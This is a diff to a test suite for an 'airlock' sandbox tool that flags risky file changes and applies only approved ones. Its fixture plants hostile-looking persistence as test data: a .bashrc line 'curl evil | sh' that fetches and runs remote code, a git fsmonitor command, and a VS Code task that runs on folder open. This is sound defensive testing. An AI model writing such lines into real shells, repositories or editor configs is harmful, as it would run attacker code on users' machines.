@@ -30,6 +30,9 @@ os.chmod(".git/hooks/pre-commit", 0o755)
 open(".git/config", "a").write("\tfsmonitor = touch /tmp/pwned\n")
 os.makedirs("vendor/lib/.git/hooks")
 open("vendor/lib/.git/hooks/post-checkout", "w").write("#!/bin/sh\n")
+# Not flagged itself, but inside the new repository's flagged .git.
+os.makedirs("vendor/lib/.git/objects/ab")
+open("vendor/lib/.git/objects/ab/cdef", "w").write("blob\n")
 open(os.path.join(home, ".bashrc"), "a").write("curl evil | sh\n")
 os.makedirs(".vscode")
 open(".vscode/tasks.json", "w").write('{"tasks": [{"runOn": "folderOpen"}]}\n')
@@ -50,7 +53,7 @@ check "... never to --all" bash -c "! grep -q -- '--all' '$T/run.err'"
 
 host_state() {
 	for f in .git/hooks/pre-commit vendor/lib/.git/hooks/post-checkout .vscode/tasks.json \
-		secret/planted; do
+		secret/planted vendor/lib/.git/objects/ab/cdef; do
 		[ -e "$P/$f" ] && echo "$f"
 	done
 	grep -c fsmonitor "$P/.git/config"
@@ -85,8 +88,9 @@ check "diff says it in a comment line" grep -q "^# airlock: flagged: .*\.git/hoo
 "$AIRLOCK" commit "$ID" >"$T/out" 2>"$T/err"
 is "$?" 0 "commit ID exits 0"
 is "$(host_state)" "$(printf '0\n0\n1')" "commit ID applied README.md and nothing flagged or denied"
-check "... and says what it left" grep -qE "left in session $ID: 0 undecided, 8 flagged, $planted denied" "$T/err"
-check "... naming the flagged paths" grep -q "flagged   $P/.git/config" "$T/err"
+# 11 flagged: the objects of the new repository stay with its flagged .git directory.
+check "... and says what it left" grep -qE "left in session $ID: 0 undecided, 11 flagged, $planted denied" "$T/err"
+check "... and how to apply a flagged one" grep -q "'airlock commit $ID PATH' applies one" "$T/err"
 "$AIRLOCK" undo "$ID" >/dev/null 2>&1
 is "$(host_state)" "$pristine" "undo"
 
@@ -132,6 +136,15 @@ is "$("$AIRLOCK" show --json "$ID" | json_get - "[c['state'] for c in j['changes
 "$AIRLOCK" commit "$ID" >"$T/out" 2>"$T/err"
 check "commit ID applies the hook approved in the review" test -e "$P/.git/hooks/post-merge"
 check "... and the approved x.txt" test -e "$P/x.txt"
+
+# --- a few left changes are named ------------------------------------------------------
+al_run -- sh -c 'echo "export X=1" >.envrc' >/dev/null 2>&1
+ID=$(last_session)
+"$AIRLOCK" commit "$ID" >"$T/out" 2>"$T/err"
+is "$?" 0 "commit ID with nothing approved exits 0"
+check "... says so" grep -q "no approved changes to commit" "$T/out"
+check "... and names the flagged change it left" grep -q "^  flagged   $P/.envrc$" "$T/err"
+check ".envrc is not on the host" test ! -e "$P/.envrc"
 
 # --- rules show lists the class --------------------------------------------------------
 "$AIRLOCK" rules show >"$T/rules.out"
